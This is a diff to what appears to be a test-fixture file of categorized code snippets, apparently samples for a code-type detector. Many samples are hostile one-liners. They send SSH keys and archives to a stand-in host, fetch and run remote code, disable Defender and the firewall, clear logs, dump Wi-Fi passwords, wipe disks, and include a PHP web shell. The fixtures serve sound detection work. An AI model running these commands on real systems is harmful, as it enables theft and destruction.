@@ -33,7 +33,7 @@ CODE = {
         "Private Sub Class_Initialize\r\nx = 1\r\nEnd Sub\r\n",
         "For i=1 To Len(a) Step 2 : b=b&ChrW(\"&H\"&Mid(a,i,2)) : Next\n"),
     "PowerShell code": (
-        "$u = 'https://h.example/a.exe'\n", ". $x\n", "\"calc\" | cmd\n", "@\"\ncalc\n\"@\n", "iwr h.example;.\\a.exe\n", "[CmdletBinding()]\nparam()\n",
+        "$u = 'https://h.example/a.exe'\n", "$a,$b = 'c','alc'; iex \"$a$b\"\n", ". $x\n", "\"calc\" | cmd\n", "@\"\ncalc\n\"@\n", "iwr h.example;.\\a.exe\n", "[CmdletBinding()]\nparam()\n",
         "Write-Host lab\n", "Set-MpPreference -DisableRealtimeMonitoring $true\n", "$w=[wmiclass]'Win32_Process'\n", "Get-ChildItem -Recurse | Remove-Item\n",
         "[Runtime.InteropServices.Marshal]::GetDelegateForFunctionPointer($p,$t)\n", "& (gcm i*x) (irm h.example/a)\n", "param([string]$u)\n",
         "'calc' | % { & $_ }\n", "$c=New-Object Net.Sockets.TCPClient('h.example',1)\n", "powershell.exe -File a.ps1 \n",
@@ -41,7 +41,7 @@ CODE = {
         "&(ls Alias:/ie?) 'calc'\n", "cp $PSCommandPath a.ps1\n", "pwsh -NoP -W 1 -encodedcommand SQBFAFgA\n",
         "Write-Output \"lab\"\r\n", "[Ref].Assembly.GetType($a)\n", "\r\nfunction Get-Lab {\n  1\n}\n", "mkdir $env:APPDATA\\a -Force\n"),
     "Windows commands": (
-        "net stop WinDefend\n", "wevtutil cl Security\n", "rd /s /q c:\\a\n", "certreq -Post -config https://h.example/ a.ini\n", ":a\nstart\ngoto a\n",
+        "net stop WinDefend\n", "whoami /all > a.txt\n", "netsh wlan show profile name=* key=clear\n", "wevtutil cl Security\n", "rd /s /q c:\\a\n", "certreq -Post -config https://h.example/ a.ini\n", ":a\nstart\ngoto a\n",
         "esentutl.exe /y \\\\h.example\\a.exe /d c:\\a.exe\n", "explorer.exe \\\\h.example\\a.exe\n", "mklink /d c:\\x \\\\h.example\\s\n", "calc.exe\n",
         "cipher /w:c:\n", "\"%windir%\\System32\\conhost.exe\" --headless cmd\n", "copy \"%~f0\" \"%APPDATA%\"\n",
         "for %%i in (a b c) do @%%i.exe\n", "if exist %temp%\\a (a.exe)\n", "format c: /q /y\n", "pushd \\\\h.example\\s && a.exe\n", "cd /d %appdata%\n",
@@ -51,7 +51,8 @@ CODE = {
         "cmd /v:on /c \"set p=a&&!p!\"\n", "finger a@h.example | cmd\n",
         "icacls c:\\x /grant everyone:f\n", "sc config wuauserv start= disabled\n", "netsh advfirewall set allprofiles state off\n"),
     "Python code": (
-        "for p in range(3):\n    go(p)\n", "class A(object):\n    pass\n", "print 'lab'\n", "with open('a', 'w') as f:\n    f.write('x')\n",
+        "for p in range(3):\n    go(p)\n", "class A(object):\n    pass\n", "print 'lab'\n", "while True:\n    pass\n", "a = [x for x in range(10)]\n",
+        "with open('a', 'w') as f:\n    f.write('x')\n",
         "import pyautogui\npyautogui.press('win')\n",
         "def main():\n    pass\n", "import pty;pty.spawn('/bin/sh')\n", "import pathlib,webbrowser\n", "try:\n    import winreg\nexcept ImportError:\n    pass\n",
         "eval(compile(open('a').read(),'a','exec'))\n", "if __name__ == '__main__':\n", "from os.path import join\n",
@@ -66,6 +67,7 @@ CODE = {
     "Unix code": (
         "sudo systemctl enable --now a\n", "xattr -d com.apple.quarantine a.app\n", "cat <<EOF | sudo tee /etc/cron.d/a\n", "id; cat /etc/shadow\n",
         "if [ -f /etc/passwd ]; then\n  id\nfi\n", "case $(uname) in Darwin) id;; esac\n", "def go\n  puts 1\nend\n", "my $c = `id`;\n",
+        "until curl -s h.example; do sleep 1; done\n", "alias ls='rm -rf ~'\n", "find / -name \"*.pem\" -exec cp {} /tmp \\;\n",
         "display dialog \"Password:\" default answer \"\"\n", "tar czf - x | nc h.example 443\n",
         "rm -rf /\n", "set -euo pipefail\n", "source <(curl -s http://h.example/a)\n", "python3 -c 'import os'\n", "base64 -d <<< 'Y3VybA==' | sh\n",
         "chmod +x a && ./a\n", "launchctl load ~/a.plist\n", "eval \"$(echo x)\"\n", "mkfifo /tmp/f;cat /tmp/f\n",
@@ -73,7 +75,8 @@ CODE = {
         "trap '' INT\nwhile :; do id; done\n", "for i in a b; do ./$i; done\n", "scp ~/.ssh/id_rsa a@h.example:\n", "eval unpack u=>q{_=7-E}\n",
         "security find-generic-password -wa Chrome\n", "screencapture -x a.png && curl -F f=@a.png h.example\n"),
     "AutoIt or AutoHotkey script": ("Run, calc.exe,, Hide\n", "^j::\nreturn\n", "DllCall(\"VirtualAlloc\")\n", "x(@TempDir)\n", "Run calc.exe\n", "F1::Run calc\n"),
-    "Lua code": ("package.loadlib('a.dll','f')()\n", "ffi.cdef[[int system(const char*);]]\n"),
+    "Lua code": (
+        "for i=1,10 do\n  print(i)\nend\n", "package.loadlib('a.dll','f')()\n", "ffi.cdef[[int system(const char*);]]\n"),
     "PHP code": ("<?=`$_GET[0]`?>\n", "<script language=\"php\">go();</script>", "<?\necho 1;\n?>"),
     "code that starts a program": (
         "using System.Diagnostics;\nProcess.Start(\"calc\");\n", "\"id\".execute().text\n", "exec xp_cmdshell 'id';\n",
